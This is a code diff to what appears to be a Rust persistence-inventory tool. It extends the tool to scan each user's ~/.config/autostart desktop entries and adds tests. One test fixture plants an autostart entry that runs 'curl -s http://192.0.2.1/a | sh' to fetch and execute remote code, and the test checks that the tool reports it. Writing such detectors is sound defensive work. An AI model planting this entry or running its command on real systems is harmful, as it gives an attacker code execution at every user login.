@@ -4,7 +4,8 @@
 //! - login and shells: `/etc/profile`, `/etc/profile.d/*`, `/etc/bash.bashrc`,
 //!   `/etc/bash.bash_logout`, and every account's `.bashrc`, `.bash_profile`, `.bash_login`,
 //!   `.profile` and `.bash_logout` (homes from `/etc/passwd`);
-//! - `/etc/update-motd.d/*` (run as root at every SSH login), `/etc/xdg/autostart/*.desktop`;
+//! - `/etc/update-motd.d/*` (run as root at every SSH login), `/etc/xdg/autostart/*.desktop`
+//!   and every account's `~/.config/autostart/*.desktop`;
 //! - udev rules that run programs (`RUN+=`), from every rules directory;
 //! - package-manager and authentication hooks (apt configuration, yum/dnf plugins, PAM
 //!   service files and modules, polkit rules): see [`crate::pkgauth`].
@@ -330,6 +331,20 @@ impl Collector for HooksCollector {
         run.dir("/etc/xdg/autostart", "autostart", "session", &|n, m| {
             n.ends_with(".desktop") && regular(m)
         })?;
+        // Each account's own autostart entries (XDG_CONFIG_HOME defaults to ~/.config).
+        for (home, user) in accounts.homes() {
+            let dir = Path::new(&home).join(".config/autostart");
+            for e in run.ctx.list_dir(&dir).unwrap_or_default() {
+                let desktop = name_text(&e.name).ends_with(".desktop");
+                run.file(
+                    &dir.join(&e.name),
+                    "autostart",
+                    "session",
+                    Some(&user),
+                    &|m| desktop && regular(m),
+                )?;
+            }
+        }
         crate::pkgauth::collect(&mut run)?;
         udev(&mut run)
     }
@@ -482,6 +497,7 @@ mod tests {
             .exe("/etc/update-motd.d/old.bak", "#!/bin/sh\n")
             .file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/bin/x\n")
             .file("/etc/xdg/autostart/y.desktop", "[Desktop Entry]\nExec=/usr/bin/y\nHidden=true\n")
+            .file("/home/alice/.config/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://192.0.2.1/a | sh'\n")
             .file("/usr/lib/udev/rules.d/60-a.rules", "KERNEL==\"sd*\", RUN+=\"/usr/bin/a\"\n")
             .file("/usr/lib/udev/rules.d/61-b.rules", "KERNEL==\"sd*\", SYMLINK+=\"b\"\n")
             .file("/etc/udev/rules.d/70-c.rules", "RUN+=\"/bin/sh -c 'id'\"\n")
@@ -515,6 +531,13 @@ mod tests {
             "/usr/bin/x"
         );
         assert_eq!(by["/etc/xdg/autostart/y.desktop"]["active"], false);
+        let upd = &by["/home/alice/.config/autostart/upd.desktop"];
+        assert_eq!(upd["owner"], "alice");
+        assert_eq!(upd["active"], true);
+        assert_eq!(
+            upd["commands"][0],
+            "sh -c 'curl -s http://192.0.2.1/a | sh'"
+        );
         // /lib/udev is /usr/lib/udev: each rules file once; files without RUN are skipped.
         let udev: Vec<&String> = by.keys().filter(|k| k.contains("udev")).collect();
         assert_eq!(
